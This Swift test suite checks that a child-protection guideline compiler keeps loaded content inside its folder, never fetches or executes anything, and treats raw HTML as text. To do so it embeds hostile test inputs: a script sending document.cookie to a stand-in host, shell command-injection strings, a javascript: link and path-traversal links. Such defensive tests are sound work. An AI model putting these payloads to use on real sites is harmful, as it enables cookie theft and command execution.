import ChildOnlineProtection
import GuidelineCompiler
import Foundation
import Testing

/// Loading content never leaves the content folder, never executes or fetches anything, and never lets raw
/// HTML through as markup.
@Suite struct LoadingSafetyTests {
    /// A harms catalogue outside the content folder, with a word no content file uses.
    static let outsideHarms = ContentFixtures.harms.replacingOccurrences(
        of: "Fear, shame or worry that lasts.", with: "Zanzibarian outside text.")

    @Test("a symbolic link to a file outside the content folder is skipped with a warning")
    func symlinkedFileOutside() throws {
        try TemporaryFolder.with { outside in
            try outside.write("secret.md", Self.outsideHarms)
            try TemporaryFolder.with { folder in
                try folder.write("catalogues/risks.md", ContentFixtures.risks)
                try FileManager.default.createSymbolicLink(
                    atPath: folder.path("catalogues/harms.md"), withDestinationPath: outside.path("secret.md"))
                let compilation = KnowledgeBase.compile(contentsOf: folder.url)
                let warnings = compilation.diagnostics.filter { $0.code == .symbolicLink }
                #expect(warnings.map(\.location.file) == [folder.display("catalogues/harms.md")])
                #expect(warnings.allSatisfy { $0.severity == .warning })
                #expect(!Self.mentions(compilation.knowledgeBase, "zanzibarian"))
            }
        }
    }

    @Test("a symbolic link to a folder outside the content folder is skipped with a warning")
    func symlinkedFolderOutside() throws {
        try TemporaryFolder.with { outside in
            try outside.write("catalogues/harms.md", Self.outsideHarms)
            try TemporaryFolder.with { folder in
                try folder.write("catalogues/risks.md", ContentFixtures.risks)
                try FileManager.default.createSymbolicLink(
                    atPath: folder.path("borrowed"), withDestinationPath: outside.path("catalogues"))
                let compilation = KnowledgeBase.compile(contentsOf: folder.url)
                #expect(
                    compilation.diagnostics.filter { $0.code == .symbolicLink }.map(\.location.file) == [
                        folder.display("borrowed")
                    ])
                #expect(!Self.mentions(compilation.knowledgeBase, "zanzibarian"))
            }
        }
    }

    @Test("a link that climbs out of the content folder is an error and the target is never read")
    func linkClimbingOut() throws {
        try TemporaryFolder.with { parent in
            try parent.write("secret.md", Self.outsideHarms)
            let folder = parent.url.appendingPathComponent("content")
            let chapter = ContentFixtures.chapter.replacingOccurrences(
                of: "Ask about new friends in game chat, without judging.",
                with: "Ask about new friends. See [secret](../../secret.md#distress) and [root](/etc/passwd.md)."
            )
            for (path, text) in [
                ("catalogues/risks.md", ContentFixtures.risks), ("catalogues/harms.md", ContentFixtures.harms),
                ("catalogues/topics.md", ContentFixtures.topics), ("parents-educators/grooming.md", chapter),
            ] {
                try parent.write("content/" + path, text)
            }
            let compilation = KnowledgeBase.compile(contentsOf: folder)
            #expect(
                compilation.diagnostics.filter { $0.code == .linkOutsideContent }.count == 1,
                "\(compilation.diagnostics)")
            // An absolute path is resolved inside the folder, like any relative link: a missing content file.
            #expect(
                compilation.diagnostics.filter { $0.code == .unresolvedLink }.map(\.message) == [
                    "link '/etc/passwd.md' points to 'parents-educators/etc/passwd.md', which is not a content file"
                ])
            #expect(!Self.mentions(compilation.knowledgeBase, "zanzibarian"))
        }
    }

    @Test("web links are plain links: nothing is fetched, a body link is kept, a field link is an error")
    func webLinksArePlain() throws {
        // `.invalid` never resolves: a fetch could not succeed, and the compiler must not even try.
        let chapter = ContentFixtures.chapter.replacingOccurrences(
            of: "Ask about new friends in game chat, without judging.",
            with:
                """
                Ask about new friends; see [the guide](https://cop.invalid/guide.md#grooming) and \
                <https://cop.invalid/x>.
                """
        )
        let compilation = ContentFixtures.compile(["parents-educators/grooming.md": chapter])
        #expect(!compilation.hasErrors, "\(compilation.diagnostics)")
        let advice = try #require(compilation.knowledgeBase.recommendation(id: "pe-grooming-ask"))
        #expect(advice.text.contains("the guide"))

        let field = ContentFixtures.chapter(
            replacing: "(../catalogues/topics.md#gaming)", with: "(https://cop.invalid/topics.md#gaming)")
        let fieldErrors = ContentFixtures.compile(field).diagnostics.filter { $0.severity == .error }
        #expect(
            fieldErrors.map(\.message) == [
                "'https://cop.invalid/topics.md#gaming' is a web link; a field needs a link to a content entry"
            ])
    }

    @Test("nothing in content is executed: shell syntax and code blocks are only text")
    func nothingExecutes() throws {
        let marker = FileManager.default.temporaryDirectory.appendingPathComponent("cop-executed-\(UUID().uuidString)")
        let body = """
            Run `$(touch \(marker.path))` and `; touch \(marker.path)`.

            ```sh
            touch \(marker.path)
            ```

            [click](javascript:alert(1)) [file](file://\(marker.path)) ![image](\(marker.path).png)
            """
        let chapter = ContentFixtures.chapter.replacingOccurrences(
            of: "Ask about new friends in game chat, without judging.", with: body)
        let compilation = ContentFixtures.compile(["parents-educators/grooming.md": chapter])
        _ = compilation.knowledgeBase.search("touch")
        #expect(!FileManager.default.fileExists(atPath: marker.path))
        let advice = try #require(compilation.knowledgeBase.recommendation(id: "pe-grooming-ask"))
        #expect(advice.text.contains("touch \(marker.path)"))
    }

    @Test("raw HTML is a warning and stays plain text in records, snippets and suggestions")
    func rawHTMLIsText() throws {
        let body = """
            Ask about new friends.

            <script>document.location='https://evil.invalid/?c='+document.cookie</script>

            Say <b onmouseover="steal()">no</b> to secrets.
            """
        let chapter = ContentFixtures.chapter.replacingOccurrences(
            of: "Ask about new friends in game chat, without judging.", with: body)
        let compilation = ContentFixtures.compile(["parents-educators/grooming.md": chapter])
        // The script block, and the opening and closing inline tags.
        #expect(compilation.diagnostics.filter { $0.code == .rawHTML }.count == 3)
        #expect(compilation.diagnostics.filter { $0.code == .rawHTML }.allSatisfy { $0.severity == .warning })
        let base = compilation.knowledgeBase
        let advice = try #require(base.recommendation(id: "pe-grooming-ask"))
        // Records hold plain text: the markup is there as characters to show (and escape) as text, never as
        // structure a renderer would pass through.
        #expect(advice.text.contains("<script>document.location"))
        let record = try #require(base.record(id: "pe-grooming-ask"))
        #expect(record.text == advice.text)
        let hit = try #require(base.search("cookie script").hits.first { $0.record.id == "pe-grooming-ask" })
        #expect(hit.snippet.text.contains("<script>") || hit.snippet.text.contains("cookie"))
        #expect(hit.snippet.marked().contains("**"), "highlights are marked with the caller's markers, never HTML")
        #expect(!hit.snippet.marked().contains("<mark>"))
    }

    /// Whether any record of `base` contains `word` (case-insensitive) in its title or text.
    static func mentions(_ base: KnowledgeBase, _ word: String) -> Bool {
        base.records.contains { $0.text.lowercased().contains(word) || $0.title.lowercased().contains(word) }
    }
}
